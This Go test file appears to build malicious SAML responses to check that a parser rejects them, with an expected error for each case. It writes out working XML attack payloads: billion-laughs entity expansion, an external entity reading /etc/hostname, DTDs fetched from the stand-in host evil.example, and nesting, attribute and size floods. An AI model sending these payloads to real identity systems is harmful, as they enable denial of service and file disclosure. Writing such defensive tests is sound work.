package idptest

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/beevik/etree"
)

// bombs cost a careless reader memory, time, files or connections. Their size
// stays below the 1 MiB that a gateway lets through, where it can.
func bombs() []Misbehaviour {
	extensions := func(inner string) Option {
		return replace("<samlp:Status>", `<samlp:Extensions xmlns:x="urn:x">`+inner+`</samlp:Extensions><samlp:Status>`)
	}
	return rows(ClassBomb,
		pair("entities that grow exponentially", "dtd", Together(before(laughs()), replace("ana@", "&l9;ana@"))),
		pair("entity that names a file", "dtd", Together(
			before(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>`), replace("ana@", "&x;ana@"))),
		pair("parameter entity of a web address", "dtd", before(`<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>`)),
		pair("DTD elsewhere", "dtd", before(`<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">`)),
		pair("harmless DTD", "dtd", before(`<!DOCTYPE r>`)),
		pair("entity nobody declared", "not_xml", replace("ana@", "&ana;@")),
		pair("10,000 elements deep", "too_deep", extensions(strings.Repeat("<x:a>", 10000)+strings.Repeat("</x:a>", 10000))),
		pair("100 elements deep", "too_deep", extensions(strings.Repeat("<x:a>", 100)+strings.Repeat("</x:a>", 100))),
		pair("deep and never closed", "too_deep", extensions(strings.Repeat("<x:a>", 40000))),
		pair("30,000 elements", "too_many_elements", extensions(strings.Repeat("<x:a/>", 30000))),
		pair("3,000 XML attributes", "too_many_attributes", replace("<samlp:Status>", "<samlp:Status"+numbered(` a%d=""`, 3000)+">")),
		pair("7,000 XML attributes with long names", "too_large", replace("<samlp:Status>", "<samlp:Status"+numbered(" a"+strings.Repeat("a", 118)+`%d=""`, 7000)+">")),
		pair("5,000 namespaces", "too_many_attributes", replace("<samlp:Status>", "<samlp:Status"+numbered(` xmlns:n%d="urn:n"`, 5000)+">")),
		pair("20,000 SAML attributes", "too_large", replace("</saml:AttributeStatement>", strings.Repeat(`<saml:Attribute Name="urn:oid:1.2.3.4.5.6.7"/>`, 20000)+"</saml:AttributeStatement>")),
		pair("XML declaration of 100 KiB", "not_xml", before(`<?xml version="1.0"`+strings.Repeat(" ", 100<<10)+"?>")),
		pair("2 MiB of blanks", "too_large", after(strings.Repeat(" ", 2<<20))),
		pair("2 MiB of base64 blanks", "too_large", Encode(func(b []byte) string {
			return base64.StdEncoding.EncodeToString(b) + strings.Repeat("\n", 2<<20)
		})),
		pair("an attribute value of 1 MiB, signed by the IdP", "too_large", EditAssertion(setText("AttributeValue", strings.Repeat("a", 1<<20)))),
		pair("50 signatures", "several_signatures", Tamper(within("Assertion", func(a *etree.Element) {
			for range 50 {
				double("Signature")(a)
			}
		}))),
		pair("200 references", "reference", SignWith(func(g *Signing) {
			g.EditInfo = func(i *etree.Element) {
				for range 200 {
					double("Reference")(i)
				}
			}
		})),
	)
}

// laughs declares ten entities, each ten times the one before.
func laughs() string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE r [<!ENTITY l0 "ha">`)
	for i := 1; i < 10; i++ {
		fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
	}
	b.WriteString("]>")
	return b.String()
}

func numbered(format string, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}
